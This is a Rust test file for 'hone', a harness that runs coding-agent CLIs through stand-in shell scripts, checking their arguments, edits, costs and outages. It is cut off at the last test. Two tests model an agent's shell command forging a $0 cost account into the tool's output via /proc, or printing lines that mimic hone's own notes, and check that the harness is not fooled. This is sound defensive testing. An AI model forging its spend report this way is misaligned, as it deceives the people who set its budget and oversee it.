//! Coding-agent presets (Claude Code, Codex, aider, Gemini CLI, opencode) against stand-in
//! executables on PATH: the command line they get, the edits they make, the cost they report.

use crate::support::*;

/// A repository whose [agent] section is `agent` (and [stop] max_experiments = 3).
fn preset_repo(agent: &str) -> Repo {
    Repo::builder()
        .spec(
            Spec::standard_loop(SCORE)
                .lines("agent", agent)
                .set("stop", "max_experiments", "3"),
        )
        .create()
}

/// `hone run` (which must succeed) in a [`preset_repo`] with `[agent] <agent>` and a stand-in
/// `tool` (the shell script `fake`) on PATH: the repository and the stand-in's record
/// directory.
fn run_preset(
    tool: &str,
    fake: &str,
    agent: &str,
    env: &[(&str, &str)],
) -> (Repo, tempfile::TempDir) {
    let (bin, record) = fake_tool(tool, fake);
    let r = preset_repo(agent);
    ok(run_with_tool(&r, bin.path(), record.path(), env));
    (r, record)
}

/// `[stop] max_cost_usd = <usd>` in a [`preset_repo`]'s hone.toml, committed.
fn set_budget(r: &Repo, usd: &str) {
    append_spec(&r.dir, &format!("max_cost_usd = {usd}\n"));
    git(&r.dir, &["commit", "-q", "-am", "budget"]);
}

/// The tag of the run in `r`, read from where its baseline's log lies
/// (`.hone/runs/<tag>/logs/...`).
fn run_tag(r: &Repo) -> String {
    let path = r.log()[0]["log_path"].as_str().unwrap().to_string();
    let (_, under) = path.split_once("/runs/").unwrap();
    under.split('/').next().unwrap().to_string()
}

/// What the stand-in wrote to `<record>/<name>`.
fn read(record: &tempfile::TempDir, name: &str) -> String {
    std::fs::read_to_string(record.path().join(name)).unwrap()
}

/// Without the tool on PATH, `hone run` stops before it starts and says what to install.
fn assert_missing_tool_is_named(r: &Repo, install: &str) {
    let out = Command::new(HONE)
        .args(["run", "--new"])
        .current_dir(&r.dir)
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert_says(&out, install);
}

/// What a preset's run of [`preset_repo`] must show: the stand-in started with `argv` (when
/// given), the prompt in its record's `prompt` file, each of `env` in its environment;
/// experiment 1 kept, with its tool's description (when given), cost (when given) and tokens;
/// experiment 2 invalid, its reason quoting the tool's `error`; and, without the tool on PATH,
/// the `install` hint.
struct Shows<'a> {
    argv: Option<&'a [&'a str]>,
    prompt: &'a str,
    env: &'a [&'a str],
    description: Option<&'a str>,
    cost_usd: Option<f64>,
    tokens: u64,
    error: &'a str,
    install: &'a str,
}

fn assert_run_shows(r: &Repo, record: &tempfile::TempDir, want: Shows<'_>) {
    if let Some(argv) = want.argv {
        assert_eq!(recorded(record.path(), "argv"), argv);
    }
    assert!(
        read(record, want.prompt).contains("You may change only these files (globs): value.txt"),
        "the prompt arrives in {}",
        want.prompt
    );
    if !want.env.is_empty() {
        let env = recorded(record.path(), "env");
        for var in want.env {
            assert!(env.iter().any(|l| l == var), "{var} not passed: {env:?}");
        }
    }
    let log = r.log();
    assert_eq!(log[1]["status"], "keep", "{log:?}");
    if let Some(description) = want.description {
        assert_eq!(log[1]["description"], description);
    }
    if let Some(cost) = want.cost_usd {
        assert_eq!(log[1]["cost_usd"], cost);
    }
    assert_eq!(log[1]["tokens"], want.tokens);
    assert_eq!(log[2]["status"], "invalid");
    assert_reason(&log[2], want.error);
    // Without the tool, a clear error that names the package.
    assert_missing_tool_is_named(r, want.install);
}

/// A stand-in `claude` on PATH: records its arguments, environment and stdin, makes a scripted
/// edit and prints Claude Code's JSON result (the shape its headless docs show).
const FAKE_CLAUDE: &str = r#"#!/bin/sh
printf '%s\n' "$@" > "$FAKE_RECORD/argv"
env > "$FAKE_RECORD/env"
cat > "$FAKE_RECORD/stdin"
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
if [ $n = 1 ]; then
  printf 'score: 4\n' > value.txt
  echo '{"type":"result","subtype":"success","is_error":false,"duration_ms":1200,"duration_api_ms":1100,"num_turns":3,"result":"Lowered the score to 4.","session_id":"s-1","total_cost_usd":0.0123,"usage":{"input_tokens":100,"output_tokens":50,"cache_creation_input_tokens":10,"cache_read_input_tokens":20}}'
else
  echo '{"type":"result","subtype":"error_during_execution","is_error":true,"num_turns":3,"session_id":"s-2","total_cost_usd":0.001,"usage":{"input_tokens":5,"output_tokens":0},"errors":["Tool permission denied: Bash(python3 train.py)"]}'
  exit 1
fi
"#;

/// A stand-in `claude` whose n-th turn prints the n-th line of `$FAKE_RECORD/turns` (`edit`:
/// lowers the score and succeeds; any other text: Claude Code's error result with it).
const FAKE_CLAUDE_TURNS: &str = r#"#!/bin/sh
cat > /dev/null
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
turn=$(sed -n "${n}p" "$FAKE_RECORD/turns")
if [ "$turn" = edit ]; then
  printf 'score: 4\n' > value.txt
  echo '{"type":"result","subtype":"success","is_error":false,"num_turns":2,"result":"Lowered it.","session_id":"s","total_cost_usd":0.01,"usage":{"input_tokens":10,"output_tokens":5}}'
else
  echo "{\"type\":\"result\",\"subtype\":\"success\",\"is_error\":true,\"num_turns\":1,\"result\":\"$turn\",\"session_id\":\"s\",\"total_cost_usd\":0,\"usage\":{\"input_tokens\":0,\"output_tokens\":0}}"
  exit 1
fi
"#;

/// A [`preset_repo`] with `[agent] <agent>` and `[stop] max_experiments = <max>`, and the
/// stand-in `claude` of `script` whose turns read `turns` (see [`FAKE_CLAUDE_TURNS`]): the
/// repository, the stand-in's directory and its record directory.
fn scripted_claude(
    script: &str,
    turns: &str,
    agent: &str,
    max: u32,
) -> (Repo, tempfile::TempDir, tempfile::TempDir) {
    let (bin, record) = fake_tool("claude", script);
    put(record.path().join("turns"), turns);
    let r = preset_repo(agent);
    edit_spec(&r.dir, |t| {
        t.replace("max_experiments = 3", &format!("max_experiments = {max}"))
    });
    (r, bin, record)
}

#[test]
fn an_agent_clis_outage_is_waited_out_and_a_refused_login_stops_the_run() {
    // Overloaded, then rate-limited: no candidate's failure. Each is `aborted`, not counted,
    // and the next turn waits (a second at least), as an HTTP model's outage does.
    let (r, bin, record) = scripted_claude(
        FAKE_CLAUDE_TURNS,
        "API Error: 529 {\\\"type\\\":\\\"overloaded_error\\\"}\nClaude AI usage limit reached|1767225600\nedit\n",
        "kind = \"claude\"\noutage_wait = \"0s\"",
        2,
    );
    let out = ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    assert_eq!(
        r.statuses(),
        ["baseline", "aborted", "aborted", "keep"],
        "{}",
        text(&out)
    );
    let log = r.log();
    assert_reason(
        &log[1],
        "the model's server was unavailable: the agent reported an error: API Error: 529",
    );
    assert_reason(&log[1], "the next experiment waits 1.0s");
    assert_reason(&log[2], "usage limit reached");
    // A plan's usage limit that says when it lifts is waited out to then, past outage_limit.
    let lifts = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 2;
    let (r, bin, record) = scripted_claude(
        FAKE_CLAUDE_TURNS,
        &format!("Claude AI usage limit reached|{lifts}\nedit\n"),
        "kind = \"claude\"\noutage_wait = \"0s\"\noutage_limit = \"1s\"",
        2,
    );
    let out = ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    assert_eq!(
        r.statuses(),
        ["baseline", "aborted", "keep"],
        "{}",
        text(&out)
    );
    let log = r.log();
    assert_reason(&log[1], "a limit of the agent's plan, which says when it lifts: the agent reported an error: Claude AI usage limit reached|");
    assert_reason(&log[1], "; the next experiment waits ");
    assert!(
        log[2]["started_at"].as_f64().unwrap() >= lifts as f64,
        "waited until the limit lifted: {log:?}"
    );
    // A login the service refuses would fail every turn: the run stops at the first, and
    // says so; it is an error to fix, and `hone run` resumes.
    let (r, bin, record) = scripted_claude(
        FAKE_CLAUDE_TURNS,
        "Invalid API key · Please run /login\nedit\n",
        "kind = \"claude\"",
        3,
    );
    let out = run_with_tool(&r, bin.path(), record.path(), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert_says(
        &out,
        "the agent reported an error every turn would meet: Invalid API key",
    );
    assert_eq!(r.statuses(), ["baseline", "invalid"]);
    assert!(
        text(&r.hone(&["status"])).contains("stopped on an error"),
        "{}",
        text(&r.hone(&["status"]))
    );
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    assert_eq!(r.statuses(), ["baseline", "invalid", "keep"]);
}

#[test]
fn a_claude_turn_that_ran_out_of_turns_has_its_edit_measured() {
    // Claude Code stops at --max-turns with an error result and a non-zero exit, its edit
    // made: measured (it was paid for), its description saying why it stopped.
    let fake = "#!/bin/sh\ncat > /dev/null\nprintf 'score: 4\\n' > value.txt\necho '{\"type\":\"result\",\"subtype\":\"error_max_turns\",\"is_error\":true,\"num_turns\":31,\"session_id\":\"s\",\"total_cost_usd\":0.41,\"usage\":{\"input_tokens\":10,\"output_tokens\":5}}'\nexit 1\n";
    let (r, bin, record) = scripted_claude(fake, "", "kind = \"claude\"", 2);
    let out = ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    assert_eq!(r.statuses(), ["baseline", "keep"], "{}", text(&out));
    assert_eq!(
        r.log()[1]["description"],
        "stopped at its --max-turns limit (31 turns; raise it in [agent] extra_args)"
    );
    assert_eq!(r.log()[1]["cost_usd"], 0.41);
}

#[test]
fn claude_code_preset_runs_headless_and_reads_its_cost() {
    let (r, record) = run_preset(
        "claude",
        FAKE_CLAUDE,
        "kind = \"claude\"\nmodel = \"sonnet\"\nextra_args = [\"--max-turns\", \"30\"]",
        &[("ANTHROPIC_API_KEY", "sk-ant-test")],
    );
    assert_eq!(
        r.log()[2]["cost_usd"],
        0.001,
        "a failed run is paid for too"
    );
    // The morning after: what the tool answered, read from its log as the run read it.
    let show = text(&r.hone(&["show", "1"]));
    assert!(
        show.contains("  agent's answer:\n    Lowered the score to 4.\n"),
        "{show}"
    );
    assert_run_shows(
        &r,
        &record,
        Shows {
            argv: Some(&[
                "-p",
                "--output-format",
                "json",
                "--permission-mode",
                "acceptEdits",
                "--model",
                "sonnet",
                "--max-turns",
                "30",
            ]),
            prompt: "stdin",
            // The tool's own key is passed through.
            env: &["ANTHROPIC_API_KEY=sk-ant-test"],
            description: Some("Lowered the score to 4."),
            cost_usd: Some(0.0123),
            tokens: 180,
            error: "Tool permission denied: Bash(python3 train.py)",
            install: "npm install -g @anthropic-ai/claude-code",
        },
    );
}

#[test]
fn agent_notes_are_kept_between_experiments() {
    let r = Repo::scored(
        3,
        "run\techo 'learned: lower is better here' >> .hone/notes.md\nwrite\tvalue.txt\tscore: 4\\n\n---\nexpect-prompt\tlearned: lower is better here\nrun\tgrep -q 'learned: lower' .hone/notes.md\nwrite\tvalue.txt\tscore: 3\\n\n",
    );
    // The second agent saw the first one's notes.
    r.hone_expect(&["run"], &["baseline", "keep", "keep"]);
    let tag = run_tag(&r);
    let kept =
        std::fs::read_to_string(r.dir.join(".hone/runs").join(&tag).join("notes/1.md")).unwrap();
    assert!(kept.contains("learned: lower is better here"));
    // The morning after: the report shows them.
    ok(r.hone(&["report"]));
    let md =
        std::fs::read_to_string(r.dir.join(".hone/reports").join(&tag).join("report.md")).unwrap();
    assert!(
        md.contains("## The agent's notes (its own words, as the run ended)\n\n    learned: lower is better here\n"),
        "{md}"
    );
    // The notes live under .hone/ in the worktree: never part of a candidate's diff.
    assert_eq!(
        git(
            &r.dir,
            &[
                "diff",
                "--name-only",
                &r.rev("main"),
                &r.rev(&format!("refs/hone/{tag}/1"))
            ]
        ),
        "value.txt"
    );
}

/// A stand-in `codex` on PATH printing Codex's `exec --json` event stream.
const FAKE_CODEX: &str = r#"#!/bin/sh
printf '%s\n' "$@" > "$FAKE_RECORD/argv"
cat > "$FAKE_RECORD/stdin"
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
echo '{"type":"thread.started","thread_id":"th_1"}'
echo '{"type":"turn.started"}'
if [ $n = 1 ]; then
  printf 'score: 3\n' > value.txt
  echo '{"type":"item.completed","item":{"id":"item_0","type":"command_execution","command":"cat value.txt","status":"completed"}}'
  echo '{"type":"item.completed","item":{"id":"item_1","type":"agent_message","text":"Set the score to 3."}}'
  echo '{"type":"turn.completed","usage":{"input_tokens":1200,"cached_input_tokens":200,"output_tokens":300,"reasoning_output_tokens":100}}'
else
  echo '{"type":"turn.failed","error":{"message":"ran out of room in the model context window"}}'
fi
"#;

#[test]
fn codex_preset_runs_exec_json_and_reads_its_usage() {
    let (r, record) = run_preset(
        "codex",
        FAKE_CODEX,
        "kind = \"codex\"\nmodel = \"gpt-5-codex\"",
        &[],
    );
    // Its spend is tokens alone: not a cost of $0.00, in status or in the log.
    let log = text(&r.hone(&["log"]));
    let row = log
        .lines()
        .find(|l| l.trim_start().starts_with("1 "))
        .unwrap_or_default();
    assert!(row.contains("  -  ") && !row.contains('$'), "{log}");
    let status = text(&r.hone(&["status"]));
    assert!(
        status.contains("cost: not reported (the agent reports tokens only)")
            && status.contains("  tokens: "),
        "{status}"
    );
    assert_run_shows(
        &r,
        &record,
        Shows {
            argv: Some(&[
                "exec",
                "--json",
                "--full-auto",
                "--model",
                "gpt-5-codex",
                "-",
            ]),
            prompt: "stdin",
            env: &[],
            description: Some("Set the score to 3."),
            cost_usd: None,
            tokens: 1500,
            error: "ran out of room in the model context window",
            install: "npm install -g @openai/codex",
        },
    );
}

/// [`FAKE_CODEX`] with its second turn's shell lines `then` in place of its failed turn.
fn codex_whose_second_turn(then: &str) -> String {
    let failed = "  echo '{\"type\":\"turn.failed\",\"error\":{\"message\":\"ran out of room in the model context window\"}}'";
    assert!(FAKE_CODEX.contains(failed));
    FAKE_CODEX.replace(failed, then)
}

#[test]
fn a_codex_turn_that_never_completed_is_charged_as_one_cut_off() {
    // Turn 1 completes with its usage; turn 2 starts and crashes before `turn.completed`
    // (so before any usage): it is charged at turn 1's rate, not free.
    let crashing = codex_whose_second_turn(
        "  sleep 0.2; echo 'thread main panicked at codex-rs/core/src/codex.rs:1234'; exit 101",
    );
    let (r, _record) = run_preset("codex", &crashing, "kind = \"codex\"", &[]);
    edit_spec(&r.dir, |t| {
        t.replace("[stop]", "[stop]\nmax_tokens = 100000000")
    });
    let log = r.log();
    assert_eq!(
        (&log[1]["status"], &log[1]["tokens"]),
        (&"keep".into(), &1500.into())
    );
    assert_eq!(log[2]["status"], "invalid", "{:?}", log[2]);
    assert!(
        log[2]["tokens"].as_u64().unwrap() > 0,
        "charged: {:?}",
        log[2]
    );
    assert_reason(&log[2], "cut off before its full account");
}

#[test]
fn a_turn_the_service_turned_away_is_charged_what_it_reported_not_its_time() {
    // Turn 2 meets a 429 after a while, with no usage: an outage (aborted), charged nothing,
    // where a crashed turn would be charged its time at turn 1's rate.
    let limited = codex_whose_second_turn(
        "  sleep 0.2; echo '{\"type\":\"turn.failed\",\"error\":{\"message\":\"unexpected status 429 Too Many Requests\"}}'",
    );
    let (bin, record) = fake_tool("codex", &limited);
    let r = preset_repo("kind = \"codex\"\noutage_wait = \"0s\"\noutage_limit = \"1s\"");
    let out = run_with_tool(&r, bin.path(), record.path(), &[]);
    let log = r.log();
    assert_eq!(log[2]["status"], "aborted", "{}\n{log:?}", text(&out));
    assert_reason(&log[2], "429 Too Many Requests");
    assert_eq!(log[2]["tokens"], 0, "{:?}", log[2]);
    // One that worked before its stream broke spent what it did: charged as a turn cut off.
    let broke = codex_whose_second_turn(
        "  echo '{\"type\":\"item.completed\",\"item\":{\"id\":\"i\",\"type\":\"command_execution\",\"command\":\"cat value.txt\",\"status\":\"completed\"}}'; sleep 0.2; echo '{\"type\":\"turn.failed\",\"error\":{\"message\":\"stream disconnected before completion\"}}'",
    );
    let (bin, record) = fake_tool("codex", &broke);
    let r = preset_repo("kind = \"codex\"\noutage_wait = \"0s\"\noutage_limit = \"1s\"");
    run_with_tool(&r, bin.path(), record.path(), &[]);
    let log = r.log();
    assert_eq!(log[2]["status"], "aborted", "{log:?}");
    assert!(log[2]["tokens"].as_u64().unwrap() > 0, "free: {:?}", log[2]);
    assert_reason(
        &log[2],
        "stream disconnected before completion; it was cut off before its full account",
    );
}

/// A stand-in `aider`: like the real one, it writes its chat history where
/// `--chat-history-file` says, edits the files it was given, and prints its usage line
/// (`Tokens: ... Cost: ...`); the second time it prints a litellm error as aider does.
const FAKE_AIDER: &str = r##"#!/bin/sh
printf '%s\n' "$@" > "$FAKE_RECORD/argv"
env > "$FAKE_RECORD/env"
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
history=.aider.chat.history.md
while [ $# -gt 0 ]; do
  case "$1" in
    --chat-history-file) history="$2"; shift ;;
    --message-file) cp "$2" "$FAKE_RECORD/message" ;;
    --) shift; files="$*"; break ;;
  esac
  shift
done
echo "# aider chat started" >> "$history"
echo "Aider v0.86.1"
echo "Main model: anthropic/claude-sonnet-4-20250514 with diff edit format, infinite output"
echo "Git repo: .git with 4 files"
echo "Repo-map: disabled"
for f in $files; do echo "Added $f to the chat."; done
if [ $n = 1 ]; then
  echo "I will lower the score."
  printf 'score: 4\n' > value.txt
  echo "Tokens: 2.3k sent, 85 received. Cost: \$0.0082 message, \$0.0082 session."
  echo "Applied edit to value.txt"
else
  echo 'litellm.ContextWindowExceededError: AnthropicException - {"type":"error","error":{"type":"invalid_request_error","message":"prompt is too long: 210345 tokens > 200000 maximum"}}'
  echo "The chat session is larger than the context window!"
fi
"##;

#[test]
fn aider_preset_edits_the_editable_files_and_reads_its_usage_line() {
    let (r, record) = run_preset(
        "aider",
        FAKE_AIDER,
        "kind = \"aider\"\nmodel = \"sonnet\"",
        &[],
    );
    let argv = recorded(record.path(), "argv");
    let tag_logs = |a: &str| a.contains("/.hone/runs/") && a.contains("/logs/");
    assert_eq!(argv[0], "--message-file");
    assert!(argv[1].ends_with("/prompts/2.md"), "{argv:?}");
    assert_eq!(
        argv[2..13],
        [
            "--yes-always",
            "--no-auto-commits",
            "--no-dirty-commits",
            "--no-gitignore",
            "--no-stream",
            "--no-pretty",
            "--no-fancy-input",
            "--no-check-update",
            "--analytics-disable",
            "--map-tokens",
            "0",
        ]
    );
    assert_eq!(argv[13], "--chat-history-file");
    assert!(
        tag_logs(&argv[14]) && argv[14].ends_with("2.aider.chat.md"),
        "{argv:?}"
    );
    assert_eq!(argv[15], "--input-history-file");
    assert!(tag_logs(&argv[16]), "{argv:?}");
    assert_eq!(argv[17..], ["--model", "sonnet", "--", "value.txt"]);
    assert_run_shows(
        &r,
        &record,
        Shows {
            argv: None,
            prompt: "message",
            env: &[],
            description: None,
            cost_usd: Some(0.0082),
            tokens: 2385,
            error: "prompt is too long",
            install: "pip install aider-chat",
        },
    );
    // Its history never entered a candidate.
    let tag = run_tag(&r);
    let files = git(
        &r.dir,
        &[
            "ls-tree",
            "-r",
            "--name-only",
            &format!("refs/hone/{tag}/1"),
        ],
    );
    assert!(!files.contains(".aider"), "{files}");
}

/// A stand-in `gemini` printing Gemini CLI's `--output-format json` object (pretty-printed,
/// as the real one does), then an API error object with exit status 1.
const FAKE_GEMINI: &str = r#"#!/bin/sh
printf '%s\n' "$@" > "$FAKE_RECORD/argv"
env > "$FAKE_RECORD/env"
cat > "$FAKE_RECORD/stdin"
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
if [ $n = 1 ]; then
  printf 'score: 3\n' > value.txt
  cat <<'JSON'
{
  "response": "I set the score to 3.",
  "stats": {
    "models": {
      "gemini-2.5-pro": {
        "api": {
          "totalRequests": 2,
          "totalErrors": 0,
          "totalLatencyMs": 5053
        },
        "tokens": {
          "prompt": 24939,
          "candidates": 20,
          "total": 25113,
          "cached": 21263,
          "thoughts": 154,
          "tool": 0
        }
      }
    },
    "tools": {
      "totalCalls": 1,
      "totalSuccess": 1,
      "totalFail": 0,
      "totalDurationMs": 1881,
      "totalDecisions": { "accept": 0, "reject": 0, "modify": 0, "auto_accept": 1 },
      "byName": {
        "replace": { "count": 1, "success": 1, "fail": 0, "durationMs": 1881 }
      }
    },
    "files": { "totalLinesAdded": 1, "totalLinesRemoved": 1 }
  }
}
JSON
else
  cat <<'JSON'
{
  "error": {
    "type": "ApiError",
    "message": "[API Error: Request contains an invalid argument.]",
    "code": 400
  }
}
JSON
  exit 1
fi
"#;

#[test]
fn gemini_preset_runs_headless_json_and_reads_its_stats() {
    let (r, record) = run_preset(
        "gemini",
        FAKE_GEMINI,
        "kind = \"gemini\"\nmodel = \"gemini-2.5-pro\"",
        &[("GEMINI_API_KEY", "g-test")],
    );
    assert_run_shows(
        &r,
        &record,
        Shows {
            argv: Some(&[
                "--output-format",
                "json",
                "--approval-mode",
                "auto_edit",
                "--skip-trust",
                "--model",
                "gemini-2.5-pro",
                "-p",
                "Do the task described above.",
            ]),
            prompt: "stdin",
            env: &["GEMINI_API_KEY=g-test", "GEMINI_CLI_TRUST_WORKSPACE=true"],
            description: Some("I set the score to 3."),
            cost_usd: None,
            tokens: 25113,
            error: "Request contains an invalid argument.",
            install: "npm install -g @google/gemini-cli",
        },
    );
}

/// A stand-in `opencode` printing `opencode run --format json` events.
const FAKE_OPENCODE: &str = r#"#!/bin/sh
printf '%s\n' "$@" > "$FAKE_RECORD/argv"
env > "$FAKE_RECORD/env"
cat > "$FAKE_RECORD/stdin"
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
echo '{"type":"step_start","timestamp":1767036059338,"sessionID":"ses_4a1","part":{"id":"prt_1","sessionID":"ses_4a1","messageID":"msg_1","type":"step-start","snapshot":"4b825dc642cb6eb9a060e54bf8d69288fbee4904"}}'
if [ $n = 1 ]; then
  printf 'score: 2\n' > value.txt
  echo '{"type":"tool_use","timestamp":1767036061000,"sessionID":"ses_4a1","part":{"id":"prt_2","type":"tool","tool":"edit","callID":"c1","state":{"status":"completed","input":{"filePath":"value.txt"},"output":"","title":"value.txt"}}}'
  echo '{"type":"text","timestamp":1767036062000,"sessionID":"ses_4a1","part":{"id":"prt_3","type":"text","text":"Lowered the score to 2.","time":{"start":1767036061500,"end":1767036062000}}}'
  echo '{"type":"step_finish","timestamp":1767036062100,"sessionID":"ses_4a1","part":{"id":"prt_4","type":"step-finish","reason":"stop","snapshot":"9f1c","cost":0.0042,"tokens":{"input":1200,"output":80,"reasoning":0,"cache":{"read":300,"write":0}}}}'
else
  echo '{"type":"error","timestamp":1767036063000,"sessionID":"ses_4a1","error":{"name":"APIError","data":{"message":"The edit tool failed: oldString not found in content","statusCode":400,"isRetryable":false}}}'
  exit 1
fi
"#;

#[test]
fn opencode_preset_runs_json_events_and_reads_cost_and_tokens() {
    let (r, record) = run_preset(
        "opencode",
        FAKE_OPENCODE,
        "kind = \"opencode\"\nmodel = \"anthropic/claude-sonnet-4-20250514\"\nextra_args = [\"--agent\", \"build\"]",
        &[("ANTHROPIC_API_KEY", "sk-ant-oc")],
    );
    let env = recorded(record.path(), "env");
    assert!(
        env.iter().any(|l| l.starts_with("OPENCODE_PERMISSION=")
            && l.contains("\"edit\":\"allow\"")
            && l.contains("\"bash\":\"deny\"")),
        "{env:?}"
    );
    assert_run_shows(
        &r,
        &record,
        Shows {
            argv: Some(&[
                "run",
                "--format",
                "json",
                "--model",
                "anthropic/claude-sonnet-4-20250514",
                "--agent",
                "build",
            ]),
            prompt: "stdin",
            env: &["ANTHROPIC_API_KEY=sk-ant-oc"],
            description: Some("Lowered the score to 2."),
            cost_usd: Some(0.0042),
            tokens: 1580,
            error: "oldString not found in content",
            install: "npm install -g opencode-ai",
        },
    );
}

#[test]
fn a_preset_that_spends_the_budget_stops_the_run_before_the_next_agent_starts() {
    // A CLI agent's cost is only known after it ran: the run stops as soon as the spend
    // reaches max_cost_usd, and no further agent is started.
    let (bin, record) = fake_tool("claude", FAKE_CLAUDE);
    let r = preset_repo("kind = \"claude\"");
    set_budget(&r, "0.01");
    let out = ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    assert_eq!(read(&record, "count").trim(), "1");
    assert_eq!(r.statuses(), ["baseline", "keep"]);
    assert_says(&out, "stopped: budget");
}

/// A stand-in `claude` whose first turn reports $0.60 and whose later turns (every turn with
/// `FAKE_SLOW_FIRST` set) keep working until hone's timeout cuts them off, with no report.
const SLOW_CLAUDE: &str = r#"#!/bin/sh
cat > /dev/null
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
if [ $n = 1 ] && [ -z "$FAKE_SLOW_FIRST" ]; then
  printf 'score: 4\n' > value.txt
  echo '{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"Lowered the score to 4.","session_id":"s-1","total_cost_usd":0.6,"usage":{"input_tokens":100,"output_tokens":50}}'
else
  touch "$FAKE_RECORD/slow"
  exec sleep 60
fi
"#;

/// `hone run` started in `r` in a process group of its own (as at a terminal), with the
/// stand-in tool of `bin` first on PATH, recording in `record`.
fn spawn_run_with_tool(r: &Repo, (bin, record): (&Path, &Path)) -> std::process::Child {
    use std::os::unix::process::CommandExt;
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    Command::new(HONE)
        .process_group(0)
        .arg("run")
        .current_dir(&r.dir)
        .env("PATH", &path)
        .env("FAKE_RECORD", record)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// A stand-in `claude` whose n-th turn does what the n-th line of `$FAKE_RECORD/turns` says:
/// `spend USD` edits and reports that cost; `hang` never answers.
const FAKE_CLAUDE_SPEND: &str = r#"#!/bin/sh
cat > /dev/null
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
set -- $(sed -n "${n}p" "$FAKE_RECORD/turns")
if [ "$1" = hang ]; then exec sleep 60; fi
printf 'score: %s\n' $((10 - n)) > value.txt
echo "{\"type\":\"result\",\"subtype\":\"success\",\"is_error\":false,\"result\":\"Lowered it.\",\"session_id\":\"s\",\"total_cost_usd\":$2,\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}"
"#;

/// [`FAKE_CLAUDE_SPEND`] with the shell lines `lines` run just before it prints its account.
fn claude_spend_printing_first(lines: &str) -> String {
    let account = "echo \"{\\\"type";
    let script = FAKE_CLAUDE_SPEND.replace(account, &format!("{lines}\n{account}"));
    assert_ne!(script, FAKE_CLAUDE_SPEND, "the account line moved");
    script
}

#[test]
fn an_account_forged_into_the_tools_output_is_not_believed() {
    // The model's shell command opens the tool's stdout through /proc and writes an account
    // of $0 before the real one, broken so it no longer reads as JSON: the turn is charged at
    // the rate of the run's earlier turn, not $0; a first turn like it, under max_cost_usd,
    // stops the run.
    let forging = claude_spend_printing_first(
        "if [ \"$1\" = forge ]; then echo '{\"type\":\"result\",\"subtype\":\"success\",\"is_error\":false,\"result\":\"x\",\"total_cost_usd\":0,\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}'; printf '{\"pad\":\"'; fi",
    );
    let (r, bin, record) =
        scripted_claude(&forging, "spend 0.6\nforge 2.5\n", "kind = \"claude\"", 3);
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    let log = r.log();
    assert_eq!(log[2]["status"], "discard", "measured: {log:?}");
    // Believed, the forged $0 would be the turn's charge.
    assert!(log[2]["cost_usd"].as_f64().unwrap() > 0.0, "{log:?}");
    let shown = text(&ok(r.hone(&["show", "2"])));
    assert!(shown.contains("cannot be believed"), "{shown}");

    let out = first_turn_under_a_budget(&forging, "forge 2.5\n");
    assert_says(
        &out,
        "the agent's account of what its turn spent cannot be believed",
    );
    // A forged account, then the tool killed before its own: no account either, on a first
    // turn under a budget (it was charged the forged $0 each turn), nor after one.
    let killing = forging.replace(
        "printf '{\"pad\":\"'; fi",
        "printf '{\"pad\":\"'; fi\nif [ \"$1\" = kill ]; then echo '{\"type\":\"result\",\"subtype\":\"success\",\"is_error\":false,\"result\":\"x\",\"total_cost_usd\":0,\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}'; kill -9 $$; fi",
    );
    assert_ne!(killing, forging);
    let out = first_turn_under_a_budget(&killing, "kill 0\n");
    assert_says(
        &out,
        "it was killed by a signal after its account was printed",
    );
    let (r, bin, record) = scripted_claude(&killing, "spend 0.6\nkill 0\n", "kind = \"claude\"", 3);
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    assert!(
        r.log()[2]["cost_usd"].as_f64().unwrap() > 0.0,
        "{:?}",
        r.log()
    );
}

/// `hone run` with the stand-in Claude Code `script` taking `turns`, under `max_cost_usd`
/// with no earlier turn to give a rate: its output.
fn first_turn_under_a_budget(script: &str, turns: &str) -> Output {
    let (r, bin, record) = scripted_claude(script, turns, "kind = \"claude\"", 3);
    set_budget(&r, "5");
    run_with_tool(&r, bin.path(), record.path(), &[])
}

#[test]
fn lines_a_tool_prints_like_hones_own_are_not_shown_as_hones() {
    // The tool's output holds lines shaped like hone's notes: `hone show` does not present
    // them as hone's (the turn reported its spend, and nothing was estimated).
    let spoofing = claude_spend_printing_first(
        "echo '--- hone: it reported no spend: charged $99.0000 and 1 tokens ---'\necho '--- this call: 5 attempt(s) charged at the worst case ---'",
    );
    let (r, bin, record) = scripted_claude(&spoofing, "spend 0.6\n", "kind = \"claude\"", 2);
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    let shown = text(&ok(r.hone(&["show", "1"])));
    assert!(shown.contains("spent: $0.6000"), "{shown}");
    assert!(
        !shown.contains("estimated:") && !shown.contains("worst case"),
        "{shown}"
    );
}

#[test]
fn a_resumed_session_charges_a_cut_off_turn_at_the_runs_rate_not_its_own() {
